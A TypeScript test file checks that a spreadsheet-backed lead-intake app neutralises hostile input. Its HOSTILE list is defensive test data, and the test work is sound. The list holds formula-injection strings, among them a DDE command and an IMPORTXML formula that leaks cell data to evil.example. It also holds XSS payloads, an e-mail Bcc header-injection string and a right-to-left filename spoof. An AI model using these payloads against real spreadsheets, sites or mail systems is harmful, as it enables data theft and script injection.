/**
 * Hostile values in every lead field, by form and by API: stored as text (no formula is
 * created — checked on the host's formula grid), escaped in every e-mail's HTML, cut to the
 * field limit with the visible marker, control/bidi characters removed, and intake never
 * crashes.
 */
import { afterEach, describe, expect, it } from "vitest";
import { FIELD_MAX_CHARS, LEAD_FIELDS, TRUNCATION_MARKER, normalizeLead, type Lead, type LeadField } from "../../src/core/lead";
import { MIN, LEADS, finish, formAnswers, formulasIn, leadRows, logRows, startRel, tokenBody } from "./helpers";
import type { Emulator } from "../../src/emulator/index";

afterEach(finish);

const LONG = "长".repeat(9_000) + "x".repeat(11_000); // 20,000 characters
export const HOSTILE: string[] = [
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-1+1",
  "=IMPORTXML(\"http://evil.example/?leak=\"&A1,\"//a\")",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "</td></tr></table><a href=\"javascript:alert(1)\">click</a>",
  LONG,
  "ctl\u0000\u0001\u0007\u001b[31mred\u007f\u0085end",
  "line1\r\nBcc: evil@example.com\r\n\r\nbody",
  "emoji 😀👍🏽👨‍👩‍👧 ok",
  "混合 Ελληνικά русский عربى हिन्दी 日本語",
  "rtl \u202Egnp.exe\u202C \u200Bzw\u200D \uFEFFbom",
  "007",
];

/** Lead j: field k gets HOSTILE[(j + k) % n], so every value lands in every field. */
function hostileLead(j: number): Lead {
  const out = {} as Lead;
  LEAD_FIELDS.forEach((f, k) => (out[f] = HOSTILE[(j + k) % HOSTILE.length]));
  return out;
}

/** A good lead with hostile text in its free-text fields only (so it is graded and reaches an owner). */
function gradableHostile(j: number): Partial<Lead> {
  const free: LeadField[] = ["customerName", "contactName", "contactTitle", "leadDetails", "interactionDetails", "cooperationHistory", "leadSource"];
  const out: Partial<Lead> = { ...LEADS[0] };
  free.forEach((f, k) => (out[f] = (f === "leadDetails" ? `${LEADS[0].leadDetails} ` : "") + HOSTILE[(j + k) % HOSTILE.length] + (f === "customerName" ? ` ${j}` : "")));
  return out;
}

/**
 * Markup that would be live in the HTML: a <script>/<img>/<svg> tag, an on…= event attribute
 * or a javascript: URL inside any tag, or the lead's attempt to close the table. Escaped text
 * ("&lt;img src=x onerror=…&gt;") is harmless and allowed.
 */
function liveMarkup(html: string): string[] {
  const bad: string[] = [];
  if (/<\s*script/i.test(html)) bad.push("<script");
  for (const tag of html.match(/<[a-zA-Z][^>]*>/g) ?? []) {
    if (/^<(img|svg|iframe|object|embed)\b/i.test(tag)) bad.push(tag);
    if (/\son[a-z]+\s*=/i.test(tag)) bad.push(tag);
    if (/javascript:/i.test(tag)) bad.push(tag);
  }
  if (html.includes("</td></tr></table><a")) bad.push("</td></tr></table><a");
  return bad;
}

function expectStoredAsText(emu: Emulator, sent: Partial<Lead>[]): void {
  const rows = leadRows(emu);
  for (const lead of sent) {
    const expected = normalizeLead(lead).lead;
    const row = rows.find((r) => LEAD_FIELDS.every((f) => String(r[f]) === expected[f]));
    expect(row, `a row holding exactly ${JSON.stringify(expected).slice(0, 120)}`).toBeDefined();
    for (const f of LEAD_FIELDS) {
      expect(typeof row![f], f).toBe("string");
      expect(Array.from(String(row![f])).length, f).toBeLessThanOrEqual(FIELD_MAX_CHARS[f]);
    }
  }
}

describe("hostile values in every field", () => {
  it("by form and by API: stored as exact text, no formulas anywhere, truncated with the marker, intake never crashes", async () => {
    const emu = await startRel();
    const formulasBefore = new Map(["Leads", "Log", "Salespeople"].map((s) => [s, formulasIn(emu, s).length]));
    const sent: Partial<Lead>[] = [];
    for (let j = 0; j < HOSTILE.length; j++) {
      const lead = hostileLead(j);
      const runs = await emu.submitForm(formAnswers(lead));
      expect(runs.map((r) => r.error), `form ${j}`).toEqual([undefined]);
      sent.push(lead);
      const api = await emu.post(tokenBody({ ...lead, customerName: `${lead.customerName} api` }, `hostile-${j}`));
      expect(api.execution.error, `api ${j}`).toBeUndefined();
      expect(JSON.parse(api.body).ok, api.body).toBe(true);
      sent.push({ ...lead, customerName: `${lead.customerName} api` });
    }
    expect(leadRows(emu)).toHaveLength(sent.length);
    expectStoredAsText(emu, sent);

    // No formula was created in any sheet the app writes.
    expect(formulasIn(emu, "Leads")).toEqual([]);
    expect(formulasIn(emu, "Log").length).toBe(formulasBefore.get("Log"));
    expect(formulasIn(emu, "Salespeople").length).toBe(formulasBefore.get("Salespeople"));

    const rows = leadRows(emu);
    // Truncation: every field that held the 20,000-character text is cut with the marker.
    const marker = Object.values(TRUNCATION_MARKER);
    let cut = 0;
    for (const r of rows) {
      for (const f of LEAD_FIELDS) {
        const v = String(r[f]);
        if (v.startsWith("长长长")) {
          cut++;
          expect(marker.some((m) => v.endsWith(m)), `${f} ends with the marker`).toBe(true);
          expect(Array.from(v).length).toBe(FIELD_MAX_CHARS[f]);
        }
        // Control and bidi/zero-width characters are gone (zero-width joiners too); emoji code points survive whole.
        expect(v).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\uFEFF]/);
        expect(v).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
        if (v.startsWith("emoji")) expect(v.replace(/ api$/, "")).toBe("emoji 😀👍🏽👨👩👧 ok");
        if (v.startsWith("rtl")) expect(v.replace(/ api$/, "")).toBe("rtl gnp.exe zw bom");
      }
    }
    expect(cut).toBeGreaterThanOrEqual(2 * LEAD_FIELDS.length);
    expect(logRows(emu).some((l) => l[2].includes("intake") && /truncated: /.test(l[4]))).toBe(true);
    // Values that look like numbers or dates stay the typed text.
    expect(rows.some((r) => LEAD_FIELDS.some((f) => r[f] === "-1+1"))).toBe(true);
    expect(rows.some((r) => LEAD_FIELDS.some((f) => r[f] === "007"))).toBe(true);
  });

  it("every e-mail (owner, manager, incomplete, needs-attention) escapes lead data in its HTML and keeps the subject on one line", async () => {
    const emu = await startRel({ settings: { NOTIFY_DELAY_MINUTES: 0 }, reps: [["王华南一", "south1@example.com", "华南", 0, 1, "是"]] });
    for (let j = 0; j < HOSTILE.length; j++) {
      await emu.submitForm(formAnswers(gradableHostile(j))); // graded → owner e-mail
      await emu.submitForm(formAnswers(hostileLead(j))); // mostly incomplete or no owner → manager e-mail
    }
    // A lead from a region nobody serves (no fallback) → needs-attention notice to the manager.
    await emu.submitForm(formAnswers({ ...gradableHostile(1), address: "北京市朝阳区 <script>alert(2)</script>", customerName: "<img src=x onerror=alert(3)> 北京" }));
    await emu.advance(15 * MIN);
    const mails = emu.world.outbox;
    expect(mails.filter((m) => m.to === "south1@example.com").length).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(mails.filter((m) => m.to === "manager@example.com").length).toBeGreaterThanOrEqual(HOSTILE.length);
    const statuses = new Set(leadRows(emu).map((r) => r.status));
    expect(statuses.has("notified")).toBe(true);
    expect([...statuses].some((s) => s === "incomplete" || s === "needs-attention")).toBe(true);
    for (const m of mails) {
      const html = m.htmlBody ?? "";
      expect(html.length, m.subject).toBeGreaterThan(0);
      expect(liveMarkup(html), `${m.to} ${m.subject.slice(0, 40)}`).toEqual([]);
      expect(html).not.toContain("<script>alert(1)</script>");
      expect(html).not.toContain("<img src=x onerror=alert(1)>");
      expect(m.subject).not.toMatch(/[\r\n]/);
      expect(m.to).not.toMatch(/evil/);
    }
    // The escaped text is still there for the reader.
    expect(mails.some((m) => (m.htmlBody ?? "").includes("&lt;script&gt;alert(1)&lt;/script&gt;"))).toBe(true);
    expect(mails.some((m) => m.body.includes("<script>alert(1)</script>"))).toBe(true);
    expect(formulasIn(emu, "Leads")).toEqual([]);
  });
});
